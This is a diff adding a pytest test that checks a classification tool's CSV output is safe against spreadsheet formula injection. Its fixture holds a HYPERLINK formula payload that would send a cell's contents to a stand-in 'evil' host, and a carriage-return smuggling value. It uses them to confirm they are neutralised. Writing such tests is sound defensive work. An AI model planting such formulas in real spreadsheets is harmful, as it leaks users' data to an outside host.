@@ -125,3 +125,16 @@ def test_evaluate_every_task(models: Path, tmp_path: Path, capsys: pytest.Captur
         report = json.loads(capsys.readouterr().out)
         assert report["task"] == task and report["n"] == 3 and "models" in report
     assert 0 <= report["macro_f1"] <= 1
+
+
+def test_classify_output_is_formula_safe(models: Path, tmp_path: Path) -> None:
+    """Posts are public text: one that starts a formula stays text in a spreadsheet, a lone CR stays in its cell."""
+    posts = tmp_path / "formula.csv"
+    pd.DataFrame({"text": ['=HYPERLINK("http://evil/?"&A1,"x")', "hi\r+1+1", "-5"]}).to_csv(posts, index=False,
+                                                                                   lineterminator="\r\n")
+    out = tmp_path / "out.csv"
+    assert run(["classify", "--input", str(posts), "--output", str(out), "--models-dir", str(models)]) == 0
+    raw = out.read_bytes()
+    assert raw.endswith(b"\r\n") and b'"hi\r+1+1"' in raw
+    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
+    assert frame["text"].tolist() == ['\'=HYPERLINK("http://evil/?"&A1,"x")', "hi\r+1+1", "-5"]
